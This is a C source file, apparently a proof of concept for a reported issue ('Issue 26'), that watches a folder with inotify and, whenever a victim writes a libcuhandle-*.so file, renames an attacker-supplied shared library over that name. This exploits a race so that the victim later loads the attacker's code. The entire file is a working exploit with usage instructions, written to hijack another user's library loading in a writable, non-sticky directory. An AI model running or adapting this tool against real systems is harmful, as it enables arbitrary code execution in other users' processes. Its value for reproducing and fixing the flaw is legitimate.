/* Issue 26's library swap: watches a folder (inotify) and, as soon as a file named libcuhandle-*.so
 * there is written to, renames a fresh copy of the attacker's library over that name. A victim that
 * goes on writing through the file it opened fills a file no name leads to any more, and then loads
 * the attacker's library by name. Usage: swap_watcher FOLDER PLANTED_LIBRARY SECONDS. Prints one
 * line per swap. Works in a folder where the attacker may rename over another user's file (group
 * or other writable, not sticky). Each swap writes a new copy: a victim that opened the copy by name
 * would write its own library into it, so copies are never shared. */
#include <fcntl.h>
#include <limits.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <time.h>
#include <unistd.h>

static char *read_all(const char *path, size_t *size) {
    FILE *f = fopen(path, "rb");
    if (!f) return NULL;
    size_t cap = 1 << 20, n = 0, got;
    char *data = malloc(cap);
    while (data && (got = fread(data + n, 1, cap - n, f)) > 0) {
        n += got;
        if (n == cap) data = realloc(data, cap *= 2);
    }
    fclose(f);
    *size = n;
    return data;
}

int main(int argc, char **argv) {
    if (argc != 4) return 2;
    const char *dir = argv[1];
    size_t size;
    char *planted = read_all(argv[2], &size);
    time_t end = time(NULL) + atoi(argv[3]);
    int fd = inotify_init1(IN_CLOEXEC);
    if (!planted || fd < 0 || inotify_add_watch(fd, dir, IN_MODIFY | IN_CLOSE_WRITE) < 0) { perror("setup"); return 1; }
    printf("watching %s\n", dir);
    fflush(stdout);
    char buf[4096] __attribute__((aligned(__alignof__(struct inotify_event))));
    char last[NAME_MAX + 1] = "";
    unsigned n = 0;
    while (time(NULL) < end) {
        struct pollfd p = { fd, POLLIN, 0 };
        if (poll(&p, 1, 200) <= 0) continue;
        ssize_t len = read(fd, buf, sizeof buf);
        for (char *at = buf; len > 0 && at < buf + len;) {
            struct inotify_event *e = (struct inotify_event *)at;
            at += sizeof *e + e->len;
            if (!e->len || strncmp(e->name, "libcuhandle-", 12) != 0 || strcmp(e->name, last) == 0) continue;
            snprintf(last, sizeof last, "%s", e->name); /* once per name: later events are the victim's own writes */
            char copy[PATH_MAX], target[PATH_MAX];
            snprintf(copy, sizeof copy, "%s/.planted-%u", dir, n++);
            snprintf(target, sizeof target, "%s/%s", dir, e->name);
            int out = open(copy, O_WRONLY | O_CREAT | O_EXCL, 0755);
            if (out >= 0 && write(out, planted, size) == (ssize_t)size && close(out) == 0 && rename(copy, target) == 0)
                printf("swapped %s\n", e->name);
            else
                perror(target);
            fflush(stdout);
        }
    }
    return 0;
}
